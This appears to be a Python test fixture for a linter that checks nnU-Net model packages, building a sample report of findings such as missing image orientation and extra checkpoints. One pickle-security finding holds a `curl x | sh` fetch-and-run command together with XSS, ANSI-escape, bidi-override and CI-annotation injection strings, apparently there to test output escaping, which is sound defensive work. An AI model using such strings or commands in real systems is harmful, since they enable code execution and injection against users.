"""One fixed report, made by hand, that holds every kind of thing that a report can hold."""

from __future__ import annotations

from collections.abc import Iterator

from model_lint.findings import (
    Answer,
    Consumer,
    Finding,
    Ignored,
    Problem,
    Report,
    Severity,
    SourceLine,
    Stats,
    TargetReport,
)
from model_lint.rules import Authority, Rule

ZIP = "model_seg_sc_t2-r20240915.zip"
FOLDER = "nnUNetTrainer__nnUNetPlans__2d"
URL = "https://example.org/rules/"


def _check(_subject: object) -> Iterator[Problem]:
    """`dataset.json` does not say which way up the images are.

    Why: SCT reorients every image to `image_orientation` before it predicts. Without it the model
    sees images turned or mirrored, and segments the wrong side.

    Fix: add the orientation of the training images, such as `"image_orientation": "RPI"`.
    """
    yield from ()


def _check_extra(_subject: object) -> Iterator[Problem]:
    """A fold holds more than its final checkpoint.

    Why: nobody loads them, and each doubles the size of the package.

    Fix: delete every checkpoint but `checkpoint_final.pth`.
    """
    yield from ()


#: What the registry holds in these tests, so that the real rules can change.
RULES = (
    Rule(
        "D003",
        "missing-image-orientation",
        Severity.ERROR,
        Authority.SPEC,
        "The `dataset.json` file should contain the `image_orientation` entry",
        ("package",),
        _check,
    ),
    Rule(
        "L012",
        "extra-checkpoint",
        Severity.ERROR,
        Authority.SPEC,
        "To save space, include only `checkpoint_final.pth`",
        ("package",),
        _check_extra,
    ),
    Rule(
        "K001",
        "pickle-global",
        Severity.ERROR,
        Authority.TORCH,
        "unsafe",
        ("package",),
        _check_extra,
        security=True,
    ),
)


def finding(  # noqa: PLR0917
    code: str,
    rule: str,
    severity: Severity,
    message: str,
    location: str,
    line: int | None = None,
    help: str = "repair it",  # noqa: A002
    source: SourceLine | None = None,
    stops: tuple[Consumer, ...] = (),
) -> Finding:
    url = f"{URL}{rule}/"
    return Finding(code, rule, severity, message, location, line, help, url, source, stops)


def extra(fold: int) -> Finding:
    return finding(
        "L012",
        "extra-checkpoint",
        Severity.ERROR,
        "`checkpoint_best.pth` (246 MB) is beside the final checkpoint",
        f"{ZIP}!/{FOLDER}/fold_{fold}/checkpoint_best.pth",
        help="delete every checkpoint but `checkpoint_final.pth`",
    )


BROKEN = TargetReport(
    ZIP,
    "package",
    (
        finding(
            "N004",
            "value-not-allowed",
            Severity.ERROR,
            "`segment` is no task; the tasks are `seg`, `label` and `find`, so that the name of "
            "the repository would be `model_seg_sc_t2`",
            ZIP,
            help="rename the repository to `model_seg_sc_t2`",
        ),
        finding(
            "D003",
            "missing-image-orientation",
            Severity.ERROR,
            "no `image_orientation`",
            f"{ZIP}!/{FOLDER}/dataset.json",
            1,
            'add the orientation of the training images, such as `"image_orientation": "RPI"`',
            stops=(Consumer.SCT,),
        ),
        finding(
            "D007",
            "labels-not-consecutive",
            Severity.ERROR,
            "`labels` has the values 0, 1 and 3; 2 is missing",
            f"{ZIP}!/{FOLDER}/dataset.json",
            7,
            "number the labels without gaps",
            SourceLine('"labels": {"background": 0, "sc": 1, "gm": 3},', 0, 8, 5),
        ),
        extra(0),
        extra(1),
        finding(
            "K001",
            "pickle-global",
            Severity.ERROR,
            "\x1b[31m`posix.system` is called with `curl x | sh`\x07",
            f"{ZIP}!/{FOLDER}/\u202efold_2/a|b<script>alert(1)</script>&.pth\n::error::pwned",
        ),
        finding(
            "L015",
            "unexpected-file",
            Severity.WARNING,
            "`notes.docx` is not part of a package",
            f"{ZIP}!/{FOLDER}/notes.docx",
        ),
        finding(
            "D020",
            "unknown-key",
            Severity.INFO,
            "`mädchen` is unknown to nnU-Net",
            f"{ZIP}!/{FOLDER}/dataset.json",
            9,
            "remove it",
            SourceLine('"日本": "x", "mädchen": 1', 11, 9, 14),
        ),
    ),
    Stats(1_098_765_432, 312_456, 0, 0.084),
    takes=(
        Answer(Consumer.SCT, ("D003", "D007", "K001", "L001", "Z002")),
        Answer(Consumer.NNUNET, ("D007",)),
        Answer(Consumer.SLICER, ("L027",), "wrapping it in DatasetNNN_NAME/"),
    ),
)

CLEAN = TargetReport(
    "other.zip",
    "package",
    (),
    Stats(2_345_678, 45_678, 0, 0.051),
    takes=tuple(Answer(consumer) for consumer in Consumer),
)

REPOSITORY = TargetReport(
    ".",
    "repository",
    (
        finding(
            "R004",
            "readme-placeholder",
            Severity.WARNING,
            "`TODO: describe the data` is left of the template",
            "./README.md",
            12,
            "write what it asks for",
            SourceLine("TODO: describe the data"),
        ),
    ),
    Stats(0, 0, 0, 0.02),
    (
        Ignored(
            finding("R006", "personal-path", Severity.WARNING, "`/home/x`", "./a.sh", 3),
            "runs on one cluster",
        ),
        Ignored(
            finding("R006", "personal-path", Severity.WARNING, "`/home/y`", "./b.sh", 4),
            "runs on one cluster",
        ),
        Ignored(finding("R003", "citation-missing", Severity.WARNING, "no CITATION.cff", "."), ""),
    ),
)

FOLDER_TARGET = TargetReport(
    f"results/{FOLDER}/",
    "folder",
    (
        finding(
            "X000",
            "internal-error",
            Severity.ERROR,
            "D003 missing-image-orientation crashed: KeyError: 'labels'",
            f"results/{FOLDER}/",
            help="a defect of model-lint, not of the model: please report it",
        ),
    ),
    Stats(1000, 1000, 0, 0.01),
)

UNUSED = finding(
    "X001",
    "unused-ignore",
    Severity.WARNING,
    "the configuration ignores D011, but it silences no finding",
    "pyproject.toml",
    help="remove D011 from `ignore`",
)

REPORT = Report((BROKEN, CLEAN, REPOSITORY, FOLDER_TARGET), (UNUSED,))
ALL_CLEAN = Report((CLEAN, TargetReport("third.zip", "package", (), Stats())))
NOTHING = Report(())
